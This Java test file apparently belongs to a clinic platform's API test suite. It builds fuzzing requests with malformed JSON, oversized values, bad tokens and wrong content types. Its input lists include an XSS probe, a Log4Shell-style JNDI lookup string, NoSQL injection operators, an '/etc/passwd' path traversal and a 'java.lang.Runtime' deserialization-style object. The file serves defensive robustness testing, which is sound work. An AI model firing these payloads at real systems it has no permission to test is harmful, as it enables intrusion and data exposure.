package org.clinicops.platform.test.api;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import org.clinicops.platform.test.api.FuzzRequest.Token;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Makes the requests of {@link ApiFuzz} from an operation and a random source: a nearly valid request
 * with one hostile part (a wrong JSON type, a huge string or list, deep nesting, an invalid enum
 * value, a bad id, a number like {@code 1e300000000}, odd unicode, an empty or malformed body, a
 * wrong content type) and a valid, an invalid or no token.
 */
final class HostileRequests {

    /** Raw JSON that Jackson's tree cannot hold (numbers beyond double), put in place of a marker. */
    static final List<String> HUGE_NUMBERS = List.of(
            "1e300000000",
            "-1e300000000",
            "1e-300000000",
            "123456789012345678901234567890123456789",
            "-0.000000000000000000000000000001",
            "1E400",
            "9223372036854775808");

    static final List<String> ODD_STRINGS = List.of(
            "\u0000",
            "\uD83D\uDE00\uD83D\uDE00\uD83D\uDE00",
            "\u202Eevil",
            "a\u0301\u0301\u0301",
            "\uFEFFbom",
            "<script>alert(1)</script>",
            "${jndi:ldap://example.invalid/a}",
            "{\"$gt\":\"\"}",
            "$where",
            "../../etc/passwd",
            " ",
            "",
            "null",
            "Ω≈ç√∫˜µ≤≥÷",
            "\u4e2d\u6587\u6587\u5b57");

    static final List<String> BAD_IDS = List.of(
            "does-not-exist",
            "",
            " ",
            "..",
            "a/b",
            "%",
            "\u0000",
            "-1",
            "0",
            "1e300000000",
            "null",
            "{}",
            "$gt",
            "a;b=c",
            "*",
            "\uD83D\uDE00",
            "x".repeat(3000));

    static final List<String> WRONG_CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "application/json; charset=ebcdic",
            "not a media type",
            "");

    static final List<String> BROKEN_BODIES = List.of(
            "",
            "null",
            "{}",
            "[]",
            "\"text\"",
            "42",
            "{",
            "{\"a\":}",
            "{'a':1}",
            "{\"a\":1}{\"b\":2}",
            "{\"a\":1,}",
            "\uFEFF{}",
            "\u0000",
            "[".repeat(100_000));

    private final ApiDocument document;
    private final SplittableRandom random;
    private final SchemaValues values;
    private final int maxBodyBytes;

    HostileRequests(ApiDocument document, SplittableRandom random, int maxBodyBytes) {
        this.document = document;
        this.random = random;
        this.values = new SchemaValues(document, random);
        this.maxBodyBytes = maxBodyBytes;
    }

    /** One request against the operation. */
    FuzzRequest next(ApiDocument.Operation operation) {
        List<String> hostile = new ArrayList<>();
        Token token = token();
        if (token != Token.VALID) {
            hostile.add("token " + token);
        }
        Map<String, String> pathValues = new LinkedHashMap<>();
        List<String[]> query = new ArrayList<>();
        boolean mutateParameters = !operation.hasBody() || random.nextInt(3) == 0;
        List<JsonNode> parameters =
                operation.parameters().stream().map(document::resolve).toList();
        int target = mutateParameters && !parameters.isEmpty() ? random.nextInt(parameters.size()) : -1;
        for (int i = 0; i < parameters.size(); i++) {
            JsonNode parameter = parameters.get(i);
            String in = parameter.path("in").asString("");
            String name = parameter.path("name").asString("");
            boolean required = parameter.path("required").asBoolean(false) || "path".equals(in);
            JsonNode schema = document.resolve(parameter.path("schema"));
            if (i == target) {
                List<String> bad = "path".equals(in) ? badIds() : badParameters(schema);
                String value = bad.get(random.nextInt(bad.size()));
                hostile.add(in + " " + name + "=" + abbreviate(value, 40));
                put(in, name, value, pathValues, query);
                if ("query".equals(in) && random.nextInt(4) == 0) {
                    put(in, name, value, pathValues, query); // repeated
                }
            } else if (required || random.nextBoolean()) {
                if ("path".equals(in) && !ApiDocument.types(schema).contains("integer")) {
                    put(in, name, "fuzz-" + values.string(schema), pathValues, query);
                } else {
                    for (String value : parameterValues(schema)) {
                        put(in, name, value, pathValues, query);
                    }
                }
            }
        }
        if (mutateParameters && random.nextInt(5) == 0) {
            query.add(new String[] {"unknown" + random.nextInt(10), "x".repeat(1 + random.nextInt(2000))});
            hostile.add("an unknown query parameter");
        }
        String path = operation.path();
        for (Map.Entry<String, String> value : pathValues.entrySet()) {
            path = path.replace("{" + value.getKey() + "}", encodePath(value.getValue()));
        }
        path = path.replaceAll("\\{[^}]+}", "fuzz-id");
        StringBuilder target2 = new StringBuilder(path);
        for (int i = 0; i < query.size(); i++) {
            target2.append(i == 0 ? '?' : '&')
                    .append(encodeQuery(query.get(i)[0]))
                    .append('=')
                    .append(encodeQuery(query.get(i)[1]));
        }
        String contentType = null;
        String body = null;
        if (operation.hasBody()) {
            contentType = "application/json";
            JsonNode value = values.valueOf(operation.bodySchema());
            Map<String, JsonNode> schemas = new LinkedHashMap<>(values.schemas());
            if (mutateParameters) {
                body = ApiDocument.JSON.writeValueAsString(value);
            } else {
                int kind = random.nextInt(10);
                switch (kind) {
                    case 0 -> {
                        body = BROKEN_BODIES.get(random.nextInt(BROKEN_BODIES.size()));
                        hostile.add("body " + abbreviate(body, 30));
                    }
                    case 1 -> {
                        contentType = WRONG_CONTENT_TYPES.get(random.nextInt(WRONG_CONTENT_TYPES.size()));
                        body = ApiDocument.JSON.writeValueAsString(value);
                        hostile.add("content type '" + contentType + "'");
                    }
                    case 2 -> {
                        body = "{\"padding\":\"" + "x".repeat(maxBodyBytes + 10) + "\"}";
                        hostile.add("a body over " + maxBodyBytes + " bytes");
                    }
                    default -> body = mutateBody(value, schemas, hostile);
                }
            }
        }
        return new FuzzRequest(
                operation.method(), target2.toString(), contentType, body, token, String.join(", ", hostile));
    }

    private Token token() {
        int roll = random.nextInt(20);
        return switch (roll) {
            case 0, 1 -> Token.NONE;
            case 2 -> Token.EXPIRED;
            case 3 -> Token.TAMPERED;
            case 4 -> Token.FOREIGN_KEY;
            default -> Token.VALID;
        };
    }

    /** A valid body with one part replaced by something hostile. */
    private String mutateBody(JsonNode value, Map<String, JsonNode> schemas, List<String> hostile) {
        List<String> pointers = new ArrayList<>(schemas.keySet());
        String pointer = pointers.get(random.nextInt(pointers.size()));
        JsonNode schema = schemas.get(pointer);
        Map<String, String> raw = new LinkedHashMap<>();
        JsonNode replacement;
        String what;
        Set<String> types = ApiDocument.types(schema);
        int kind = random.nextInt(9);
        if (kind == 0 || (kind == 1 && !types.contains("string"))) {
            replacement = wrongType(types);
            what = "wrong type " + abbreviate(replacement.toString(), 20);
        } else if (kind == 1) {
            int max = schema.path("maxLength").asInt(-1);
            int length = max >= 0 && random.nextBoolean() ? max + 1 : 20_000;
            replacement = SchemaValues.NODES.stringNode("s".repeat(length));
            what = "a string of " + length;
        } else if (kind == 2) {
            int max = schema.path("maxItems").asInt(-1);
            int size = max >= 0 && random.nextBoolean() ? max + 1 : 10_000;
            ArrayNode array = SchemaValues.NODES.arrayNode();
            JsonNode item = value.at(pointer).isArray() && !value.at(pointer).isEmpty()
                    ? value.at(pointer).get(0)
                    : SchemaValues.NODES.stringNode("x");
            for (int i = 0; i < size; i++) {
                array.add(item);
            }
            replacement = array;
            what = "a list of " + size;
        } else if (kind == 3) {
            int depth = List.of(200, 2_000, 20_000).get(random.nextInt(3));
            raw.put("@@RAW@@", "[".repeat(depth) + "]".repeat(depth));
            replacement = SchemaValues.NODES.stringNode("@@RAW@@");
            what = "nesting " + depth + " deep";
        } else if (kind == 4) {
            String bad =
                    List.of("NOT_A_VALUE", "", " ", "null", "a".repeat(300)).get(random.nextInt(5));
            if (schema.has("enum") && !schema.get("enum").isEmpty() && random.nextBoolean()) {
                bad = schema.get("enum").get(0).asString("X").toLowerCase(java.util.Locale.ROOT);
            }
            replacement = SchemaValues.NODES.stringNode(bad);
            what = "invalid value '" + abbreviate(bad, 20) + "'";
        } else if (kind == 5) {
            String number = HUGE_NUMBERS.get(random.nextInt(HUGE_NUMBERS.size()));
            raw.put("@@RAW@@", number);
            replacement = SchemaValues.NODES.stringNode("@@RAW@@");
            what = "number " + number;
        } else if (kind == 6) {
            String odd = ODD_STRINGS.get(random.nextInt(ODD_STRINGS.size()));
            if (random.nextInt(4) == 0) {
                raw.put("@@RAW@@", "\"\\ud800 lone surrogate\"");
                replacement = SchemaValues.NODES.stringNode("@@RAW@@");
                what = "a lone surrogate";
            } else {
                replacement = SchemaValues.NODES.stringNode(odd);
                what = "string '" + abbreviate(odd, 20) + "'";
            }
        } else if (kind == 7) {
            replacement = SchemaValues.NODES.nullNode();
            what = "null";
        } else {
            if (value.isObject() && random.nextBoolean()) {
                ObjectNode object = ((ObjectNode) value).deepCopy();
                List<String> names = new ArrayList<>(object.propertyNames());
                if (!names.isEmpty()) {
                    String dropped = names.get(random.nextInt(names.size()));
                    object.remove(dropped);
                    hostile.add("body without " + dropped);
                    return ApiDocument.JSON.writeValueAsString(object);
                }
            }
            ObjectNode extra = SchemaValues.NODES.objectNode();
            extra.put("_class", "java.lang.Runtime");
            extra.put("$set", "x");
            replacement = extra;
            what = "an unexpected object";
        }
        hostile.add("body" + (pointer.isEmpty() ? "" : " " + pointer) + ": " + what);
        JsonNode mutated = replace(value, pointer, replacement);
        String text = ApiDocument.JSON.writeValueAsString(mutated);
        for (Map.Entry<String, String> entry : raw.entrySet()) {
            text = text.replace("\"" + entry.getKey() + "\"", entry.getValue());
        }
        return text;
    }

    private JsonNode wrongType(Set<String> types) {
        List<JsonNode> candidates = new ArrayList<>();
        if (!types.contains("string")) {
            candidates.add(SchemaValues.NODES.stringNode("text"));
        }
        if (!types.contains("integer") && !types.contains("number")) {
            candidates.add(SchemaValues.NODES.numberNode(-1));
            candidates.add(SchemaValues.NODES.numberNode(1.5));
        }
        if (!types.contains("boolean")) {
            candidates.add(SchemaValues.NODES.booleanNode(true));
        }
        if (!types.contains("array")) {
            candidates.add(SchemaValues.NODES.arrayNode().add(1));
        }
        if (!types.contains("object")) {
            candidates.add(SchemaValues.NODES.objectNode().put("a", 1));
        }
        return candidates.get(random.nextInt(candidates.size()));
    }

    private static JsonNode replace(JsonNode root, String pointer, JsonNode replacement) {
        if (pointer.isEmpty()) {
            return replacement;
        }
        JsonNode copy = root.deepCopy();
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = copy.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode object) {
            object.set(last, replacement);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), replacement);
        }
        return copy;
    }

    private List<String> badIds() {
        return BAD_IDS;
    }

    private List<String> badParameters(JsonNode schema) {
        List<String> bad = new ArrayList<>(List.of(
                "", "x".repeat(5000), "-1", "1e300000000", "99999999999999999999999", "1.5", "abc", "2026-13-45"));
        bad.addAll(ODD_STRINGS);
        if (schema.has("enum")) {
            bad.add("NOT_A_VALUE");
            bad.add(schema.get("enum").get(0).asString("x").toLowerCase(java.util.Locale.ROOT));
        }
        if (schema.has("maxLength")) {
            bad.add("m".repeat(schema.get("maxLength").asInt() + 1));
        }
        if (schema.has("maximum")) {
            bad.add(schema.get("maximum").asLong() + 1 + "");
            bad.add("1000000");
        }
        if (ApiDocument.types(schema).contains("array")) {
            bad.add("$where,asc");
            bad.add("a.b.c.d.e.f.g.h,desc");
        }
        return bad;
    }

    private List<String> parameterValues(JsonNode schema) {
        if (ApiDocument.types(schema).contains("array")) {
            JsonNode items = document.resolve(schema.path("items"));
            return List.of(values.valueOf(items).asString(""));
        }
        JsonNode value = values.valueOf(schema);
        return List.of(value.isString() ? value.asString() : value.toString());
    }

    private static void put(String in, String name, String value, Map<String, String> path, List<String[]> query) {
        if ("path".equals(in)) {
            path.put(name, value);
        } else if ("query".equals(in)) {
            query.add(new String[] {name, value});
        }
    }

    static String encodePath(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String encodeQuery(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    static String abbreviate(String text, int max) {
        String visible = text.replace("\u0000", "\\u0000").replace("\n", "\\n");
        return visible.length() <= max ? visible : visible.substring(0, max) + "…(" + visible.length() + " chars)";
    }
}
